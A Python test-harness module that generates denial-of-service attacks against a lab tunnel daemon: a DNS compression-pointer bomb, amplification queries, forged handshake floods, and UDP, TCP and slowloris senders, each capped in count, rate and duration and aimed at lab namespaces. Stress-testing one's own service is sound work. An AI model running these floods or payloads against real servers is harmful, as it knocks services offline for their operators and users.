"""Attack generators for the hardening tests and `python -m bench.attack`: payloads and bounded floods.

Every flood stops by itself: it sends at most `Bounds.count` messages, paced at `Bounds.rate` per second,
and stops after `Bounds.duration` seconds, whichever comes first (hard ceilings: MAX_COUNT, MAX_SECONDS).
The floods run inside the attacker's namespace (`python -m lab.progs.flood`, started by `Flood`); the
payload builders are pure and run anywhere. Targets are only addresses of the lab's own namespaces.

- `pointer_bomb`: a DNS message whose question is a name of 126 one-letter labels, then as many
  records as fit whose owner and PTR target are 2-byte compression pointers back to it: a parser that
  expands every pointer walks the 126 labels twice per record.
- `reflection_queries`: small unsigned queries (browse PTR, ANY) asking for a 65535-byte EDNS buffer.
- `handshake_initiations`: valid-format Noise initiations from static keys the victim does not know. With
  no `psk` their mac1 is what a stranger can compute (it read the victim's public key in DNS, not the
  account PSK): refused at mac1 once mac1 covers the PSK. With the account's `psk` they pass mac1, as a
  flood from a lost device would: the daemon's load meter, cookies and per-source limits then decide.
- `udp_flood`, `tcp_flood`, `slowloris`: the senders, with source-address and source-port variety.
"""

from __future__ import annotations

import os
import resource
import selectors
import socket
import struct
import subprocess
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import dns.message
import dns.name
import dns.rdatatype

if TYPE_CHECKING:
    from lab.netns import Host, Lab

MAX_COUNT = 2_000_000  # messages any one flood may send
MAX_SECONDS = 30.0  # seconds any one flood (or slow-loris hold) may last
MAX_SOCKETS = 4096  # sockets (source ports, or held TCP connections) any one flood may open
BOMB_LABELS = 126  # one-letter labels: 253 octets, the longest name of such labels (RFC 1035 §3.1)
_HDR = struct.Struct("!HHHHHH")
_PTR, _IN = 12, 1


@dataclass(frozen=True)
class Bounds:
    """How much a flood may send: `count` messages at `rate` per second for at most `duration` seconds."""

    count: int
    rate: float
    duration: float

    def __post_init__(self) -> None:
        if not 0 < self.count <= MAX_COUNT or not self.rate > 0 or not 0 < self.duration <= MAX_SECONDS:
            raise ValueError(f"flood bounds out of range: {self}")

    def args(self) -> list[str]:
        return ["--count", str(self.count), "--rate", str(self.rate), "--duration", str(self.duration)]


# -- payloads ------------------------------------------------------------------------------------------------


def pointer_bomb(size: int, msg_id: int = 0x4242) -> bytes:
    """A QUERY of at most `size` bytes (>= 300): the 126-label question name, then PTR records whose
    owner and target are pointers to it (offset 12), as many as fit."""
    name = b"\x01a" * BOMB_LABELS + b"\x00"
    question = name + struct.pack("!HH", _PTR, _IN)
    rr = b"\xc0\x0c" + struct.pack("!HHIH", _PTR, _IN, 0, 2) + b"\xc0\x0c"
    n = max(0, min(0xFFFF, (size - _HDR.size - len(question)) // len(rr)))
    return _HDR.pack(msg_id, 0, 1, n, 0, 0) + question + rr * n


def query(qname: str, rdtype: str, payload: int = 65535, msg_id: int = 0x5151) -> bytes:
    """An unsigned query (RD clear) with EDNS advertising `payload` bytes."""
    q = dns.message.make_query(dns.name.from_text(qname), dns.rdatatype.from_text(rdtype), use_edns=0,
                               payload=payload, id=msg_id)
    q.flags = 0
    return q.to_wire()


def reflection_queries(zone: str) -> dict[str, bytes]:
    """The queries a reflector is tried with: the account's browse PTR, ANY at the same name and ANY at
    the zone's apex."""
    browse = f"_autotunnel._udp.{zone}"
    return {"browse PTR": query(browse, "PTR"), "ANY": query(browse, "ANY"), "ANY apex": query(zone, "ANY")}


def handshake_initiations(victim_public: bytes, n: int, now_wall: float | None = None,
                          psk: bytes | None = None) -> list[bytes]:
    """`n` framed initiations to the victim from `n` random static keys it does not know, with the
    account's `psk` (mac1 passes) or, if None, a random PSK in its place (a stranger's mac1)."""
    from tunneld.proto.handshake import Handshaker

    out = []
    wall = time.time() if now_wall is None else now_wall
    for _ in range(n):
        h = Handshaker(os.urandom(32), os.urandom(32) if psk is None else psk, {victim_public})
        payload, _ = h.initiate(victim_public, 0.0, wall)
        out.append(payload)
    return out


# -- senders (run in the attacker's namespace) ---------------------------------------------------------------


def paced(bounds: Bounds, send: Callable[[int], None], burst: int = 64) -> dict[str, float]:
    """Call send(i) for i = 0, 1, ... at `bounds.rate` per second until the count or the duration runs
    out; a sender that falls behind catches up in bursts of at most `burst`. Returns sent and seconds."""
    t0 = time.monotonic()
    n = 0
    while n < bounds.count:
        now = time.monotonic()
        if now - t0 >= bounds.duration:
            break
        due = int((now - t0) * bounds.rate) + 1  # messages that should have gone by now
        if due <= n:
            time.sleep(min((n + 1) / bounds.rate - (now - t0), t0 + bounds.duration - now, 0.05))
            continue
        for _ in range(min(due - n, burst, bounds.count - n)):
            send(n)
            n += 1
    return {"sent": n, "seconds": time.monotonic() - t0}


def _family(addr: str) -> int:
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def _enough_files(n: int) -> None:
    """Raise the soft limit on open files to at least n (up to the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < n:
        want = n if hard == resource.RLIM_INFINITY else min(n, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def udp_sockets(dst: str, sources: Sequence[str], ports: int) -> list[socket.socket]:
    """`ports` UDP sockets spread over the source addresses, each bound to its own ephemeral port."""
    if not 0 < ports <= MAX_SOCKETS:
        raise ValueError(f"ports must be 1..{MAX_SOCKETS}")
    _enough_files(ports + 64)
    socks = []
    for i in range(ports):
        s = socket.socket(_family(dst), socket.SOCK_DGRAM)
        s.setblocking(False)
        s.bind((sources[i % len(sources)] if sources else "", 0))
        socks.append(s)
    return socks


def udp_flood(dst: str, port: int, payloads: Sequence[bytes], bounds: Bounds, sources: Sequence[str] = (),
              ports: int = 1, drain: float = 0.5) -> dict[str, Any]:
    """Send payloads round-robin from `ports` sockets (round-robin too), counting what comes back (for
    `drain` seconds after the last send as well): sent, received, bytes each way, the largest reply."""
    socks = udp_sockets(dst, sources, ports)
    sel = selectors.DefaultSelector()
    for s in socks:
        sel.register(s, selectors.EVENT_READ)
    got = {"received": 0, "bytes_received": 0, "largest_reply": 0}
    sent_bytes = 0
    errors = 0

    def drain_ready(timeout: float) -> None:
        for key, _ in sel.select(timeout):
            s: socket.socket = key.fileobj  # type: ignore[assignment]
            while True:
                try:
                    data = s.recv(65535)
                except (BlockingIOError, ConnectionRefusedError):
                    break
                got["received"] += 1
                got["bytes_received"] += len(data)
                got["largest_reply"] = max(got["largest_reply"], len(data))

    def send(i: int) -> None:
        nonlocal sent_bytes, errors
        p = payloads[i % len(payloads)]
        try:
            socks[i % len(socks)].sendto(p, (dst, port))
            sent_bytes += len(p)
        except OSError:  # a full socket buffer: the flood outruns the kernel, count it
            errors += 1
        if i % 256 == 255:
            drain_ready(0)

    try:
        r = paced(bounds, send)
        end = time.monotonic() + drain
        while (left := end - time.monotonic()) > 0:
            drain_ready(left)
    finally:
        sel.close()
        for s in socks:
            s.close()
    return {**r, "bytes_sent": sent_bytes, "send_errors": errors, **got}


def _connect(dst: str, port: int, source: str, timeout: float) -> socket.socket:
    s = socket.socket(_family(dst), socket.SOCK_STREAM)
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect((dst, port))
    return s


def tcp_flood(dst: str, port: int, payloads: Sequence[bytes], bounds: Bounds,
              sources: Sequence[str] = ()) -> dict[str, Any]:
    """One connection per message: connect, send the framed payload, close (without waiting for a
    reply). Counts connections refused or failing."""
    failed = 0

    def send(i: int) -> None:
        nonlocal failed
        p = payloads[i % len(payloads)]
        try:
            with _connect(dst, port, sources[i % len(sources)] if sources else "", 2.0) as s:
                s.sendall(struct.pack("!H", len(p)) + p)
        except OSError:
            failed += 1

    return {**paced(bounds, send), "failed": failed}


def slowloris(dst: str, port: int, n: int, hold: float, sources: Sequence[str] = (), rate: float = 500.0,
              on_open: Callable[[dict[str, Any]], None] | None = None) -> dict[str, Any]:
    """Open `n` TCP connections (at `rate` per second), each sending one byte of a length prefix and
    nothing more, and hold them for `hold` seconds from the first; how many the server closed meanwhile.
    `on_open` hears how many opened (and failed) once the opening is over."""
    if not 0 < n <= MAX_SOCKETS or not 0 < hold <= MAX_SECONDS:
        raise ValueError("slowloris bounds out of range")
    _enough_files(n + 64)
    conns: list[socket.socket] = []
    failed = 0
    t0 = time.monotonic()

    def open_one(i: int) -> None:
        nonlocal failed
        try:
            s = _connect(dst, port, sources[i % len(sources)] if sources else "", 2.0)
            s.sendall(b"\x00")
            s.setblocking(False)
            conns.append(s)
        except OSError:
            failed += 1

    paced(Bounds(n, rate, hold), open_one)
    opened = len(conns)
    if on_open is not None:
        on_open({"opened": opened, "failed": failed})
    sel = selectors.DefaultSelector()
    for s in conns:
        sel.register(s, selectors.EVENT_READ)
    closed: set[int] = set()
    try:
        while (left := t0 + hold - time.monotonic()) > 0:
            for key, _ in sel.select(left):
                conn: socket.socket = key.fileobj  # type: ignore[assignment]
                try:
                    data = conn.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    closed.add(id(conn))
                    sel.unregister(conn)
    finally:
        sel.close()
        for s in conns:
            s.close()
    return {"opened": opened, "failed": failed, "closed_by_server": len(closed),
            "seconds": time.monotonic() - t0}


# -- launching (host side) -----------------------------------------------------------------------------------


class Flood:
    """`python -m lab.progs.flood ARGS` in the attacker's namespace (ended by PID with the lab).

    The constructor returns once the flood says it is under way (its "sending" line, or "open" for a
    slow-loris once its connections are open), so a measurement started next overlaps the attack."""

    def __init__(self, lab: Lab, host: Host, *args: str, ready_timeout: float = 15.0) -> None:
        from lab import progs
        from lab.netns import LabError

        self.lab = lab
        self.proc = progs.spawn(lab, host, "flood", *args, stdout=subprocess.PIPE,
                                stderr=subprocess.DEVNULL, text=True)
        self.lines = progs.Lines(self.proc)
        try:
            self.ready = self.lines.until(lambda o: o.get("phase") in ("sending", "open"), ready_timeout)
        except (TimeoutError, EOFError) as e:
            lab.stop(self.proc)
            raise LabError(f"flood {args[0]} did not start: {e}") from None

    @property
    def pid(self) -> int:
        return self.proc.pid

    def result(self, timeout: float) -> dict[str, Any]:
        """The flood's final report; the process is stopped by PID if it overran `timeout` (an error)."""
        from lab.netns import LabError

        try:
            report = self.lines.until(lambda o: "phase" not in o, timeout)
            self.proc.wait(timeout=10)
        except (TimeoutError, EOFError, subprocess.TimeoutExpired) as e:
            self.lab.stop(self.proc)
            raise LabError(f"flood did not finish within {timeout:.0f} s: {e}") from None
        self.lab.stop(self.proc)  # it has exited: this closes its pipe and forgets it
        return report


def write_payloads(path: os.PathLike[str] | str, payloads: Sequence[bytes]) -> str:
    """Payloads as a hex file for the flood program (one a line); returns the path as a string."""
    with open(path, "w") as f:
        f.writelines(p.hex() + "\n" for p in payloads)
    return os.fspath(path)

